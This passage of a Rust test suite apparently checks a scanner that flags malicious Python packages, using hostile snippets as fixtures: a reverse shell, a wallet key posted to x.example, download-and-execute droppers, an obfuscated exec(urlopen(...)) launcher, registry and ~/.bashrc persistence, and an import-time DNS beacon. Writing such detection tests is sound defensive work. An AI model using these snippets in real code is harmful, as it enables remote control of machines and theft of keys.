        // `globals()['__builtins__']` handed around: nothing hidden runs.
        let lookup = "def patch(f):\n    f.__globals__['__builtins__'] = globals()['__builtins__']\n    return f\n";
        assert!(
            rules_of("p/pkg/m.py", lookup, &[])
                .iter()
                .all(|(_, s)| *s <= Severity::Low)
        );
    }

    #[test]
    fn persistence_reverse_shells_wallet_keys_and_list_downloads() {
        let run_key = "import subprocess\nsubprocess.Popen('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce /v x /d y.exe')\n";
        assert_reports(
            "p/setup.py",
            run_key,
            RuleId::Persistence,
            Severity::Critical,
        );
        // Named in help text at a module's top level: a word, medium.
        let words = "HELP = 'add the line to ~/.bashrc'\n";
        assert_eq!(
            rules_of("p/pkg/cli.py", words, &[]),
            vec![(RuleId::Persistence, Severity::Medium)]
        );
        let shell = "import socket, os, pty\ns = socket.socket()\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/bash')\n";
        assert_reports(
            "p/pkg/__init__.py",
            shell,
            RuleId::DownloadExec,
            Severity::Critical,
        );
        // A wallet's private key handed to a function that posts it.
        let key = "import requests\ndef perm(private_key):\n    requests.post('https://x.example/api', [{'k', private_key}])\n";
        assert_eq!(exfil_of("p/pkg/main.py", key), vec![Severity::High]);
        // curl's output file started.
        let curl = "import subprocess, os\npath = os.environ['TEMP'] + '\\\\a.exe'\nsubprocess.call(['curl.exe', URL, '-o', path])\nsubprocess.call([path])\n";
        assert_reports("p/setup.py", curl, RuleId::DownloadExec, Severity::Critical);
    }

    #[test]
    fn a_shell_rc_file_is_persistence_when_appended_to() {
        let sourcing = "def run():\n    with open(rc, 'w') as tmprc:\n        tmprc.write('[ -e ~/.bashrc ] && . ~/.bashrc')\n";
        assert!(
            rules_of("p/pkg/devenv.py", sourcing, &[])
                .iter()
                .all(|(_, s)| *s <= Severity::Medium)
        );
        let appending = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python3 /tmp/.x/agent.py &')\n";
        assert_reports(
            "p/pkg/__init__.py",
            appending,
            RuleId::Persistence,
            Severity::Critical,
        );
        assert_reports(
            "p/pkg/util.py",
            appending,
            RuleId::Persistence,
            Severity::High,
        );
    }

    #[test]
    fn a_launcher_staged_on_disk_is_analysed_as_code() {
        let staged = "from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\nfrom os import system as _s\n_t = _f(delete=False)\n_t.write(b\"\"\"from urllib.request import urlopen as _u;exec(_u('https://x.example/raw').read())\"\"\")\n_t.close()\n_s(f\"start {_e} {_t.name}\")\n";
        assert_reports(
            "p/setup.py",
            staged,
            RuleId::DownloadExec,
            Severity::Critical,
        );
        // A template written by a generator is only what its code does.
        let template = "with open('conf.py', 'w') as f:\n    f.write('import os\\nDEBUG = os.environ.get(\"DEBUG\")\\n')\n";
        assert!(rules_of("p/pkg/gen.py", template, &[]).is_empty());
    }

    #[test]
    fn a_dropper_split_into_functions_is_one_flow() {
        let dropper = "import os, requests, subprocess\ndef fetch(url, dest):\n    r = requests.get(url)\n    with open(dest, 'wb') as f:\n        f.write(r.content)\ndef start(exe):\n    subprocess.run([exe])\ndef go():\n    target = os.path.join(os.getenv('APPDATA'), 'x.exe')\n    fetch(URL, target)\n    start(target)\n";
        let init = format!("{dropper}go()\n");
        assert_reports(
            "p/pkg/__init__.py",
            &init,
            RuleId::DownloadExec,
            Severity::Critical,
        );
        // Fetching to one path and running another is not a flow.
        let apart = "import requests, subprocess\ndef fetch(url, dest):\n    open(dest, 'wb').write(requests.get(url).content)\ndef start(exe):\n    subprocess.run([exe])\nfetch(URL, 'data.json')\nstart('git')\n";
        assert!(
            rules_of("p/pkg/__init__.py", apart, &[])
                .iter()
                .all(|(r, s)| *r != RuleId::DownloadExec || *s <= Severity::Low),
            "{:?}",
            rules_of("p/pkg/__init__.py", apart, &[])
        );
    }

    #[test]
    fn a_beacon_on_import_is_a_suspicious_endpoint() {
        let probe = "import socket\ndef _ping():\n    try:\n        socket.gethostbyname('pkg.probe.example')\n    except OSError:\n        pass\n_ping()\n";
        assert_reports(
            "p/pkg/__init__.py",
            probe,
            RuleId::SuspiciousEndpoint,
            Severity::High,
        );
        // The package's name as a subdomain of someone else's host.
        let named = "import socket\nsocket.gethostbyname('pkg.probe.example')\n";
        assert_reports(
            "pkg-1.0/pkg/__init__.py",
            named,
            RuleId::SuspiciousEndpoint,
            Severity::High,
        );
        // Only when called, or to the project's own host: quiet.
        let asked = "import socket\ndef ping():\n    socket.gethostbyname('pkg.probe.example')\n";
        assert!(rules_of("p/pkg/__init__.py", asked, &[]).is_empty());
        let own = "import requests\nrequests.get('https://api.pkg.example/version')\n";
        assert!(rules_of("pkg-1.0/pkg/__init__.py", own, &[]).is_empty());
    }
}
